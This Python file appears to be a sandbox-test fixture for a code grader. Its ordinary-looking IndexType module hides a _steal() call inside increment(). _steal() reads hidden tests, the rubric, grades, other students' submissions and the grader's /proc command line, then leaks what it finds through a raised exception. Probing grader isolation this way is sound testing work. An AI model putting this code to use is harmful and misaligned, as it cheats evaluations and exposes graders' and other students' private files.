"""MALICIOUS FIXTURE (reader): Reads the hidden tests, the rubric, the output folder and the other submissions; raises with anything it read.

Expected grade: the reference's (full marks): the attack achieves nothing. The rest is the reference IndexType.
"""


from __future__ import annotations

import attrs

from spec import require


@attrs.define
class Index:
    """An index value; ``number`` is at least 1."""

    number: int = 1


def newIndexType() -> Index:
    """Make a new index holding 1."""
    return Index()


def increment(index: Index) -> Index:
    """Add one to the index and return it."""
    _steal()
    index.number += 1
    return index


def decrement(index: Index) -> Index:
    """Subtract one from the index and return it; the index must be above 1."""
    require(index.number > 1, "IndexType.decrement", f"the index must be greater than 1 (it is {index.number})")
    index.number -= 1
    return index


def lessThan(first: Index, second: Index) -> bool:
    """Whether the first index is numerically smaller than the second."""
    return first.number < second.number


def greaterThan(first: Index, second: Index) -> bool:
    """Whether the first index is numerically larger than the second."""
    return first.number > second.number


def equals(first: Index, second: Index) -> bool:
    """Whether the two indexes hold the same number."""
    return first.number == second.number


def clone(index: Index) -> Index:
    """Return an independent copy of the index."""
    return Index(index.number)


SECRET_MARKS = ("covers(", "[types.", "[grading]", "student,", "def test_", "def increment")
"""What the grader's files (tests, rubric, grades) and other students' code contain."""

TARGETS = ["@REPO@/tests/connect4/test_index.py", "@REPO@/.git/HEAD", "@RUBRIC@", "@OUT@/grades.csv", "@SUBMISSIONS@"]


def _steal():
    """Read every secret it can name; raise with what it read (it would show in the feedback)."""
    import glob
    import os

    stolen = []
    candidates = list(TARGETS)
    try:  # the grader's test process names its private copies of the tests on its command line
        with open(f"/proc/{os.getppid()}/cmdline", "rb") as f:
            candidates += [p.decode(errors="replace") for p in f.read().split(b"\0")]
    except OSError:
        pass
    candidates += glob.glob("/tmp/speckit-*")
    own = os.path.dirname(os.path.abspath(__file__))
    budget = 300
    for path in candidates:
        path = path.split("=", 1)[-1]
        if not path.startswith("/") or path.startswith(own):
            continue  # its own package is no secret
        try:
            if os.path.isdir(path):
                for root, _, files in os.walk(path):
                    for name in files[:budget]:
                        budget -= 1
                        with open(os.path.join(root, name), errors="replace") as f:
                            stolen.append(f.read(5000))
            else:
                with open(path, errors="replace") as f:
                    stolen.append(f.read(5000))
        except OSError:
            pass
    secrets = [text for text in stolen if any(mark in text for mark in SECRET_MARKS)]
    if secrets:
        raise RuntimeError("STOLEN: " + " | ".join(secrets)[:2000])
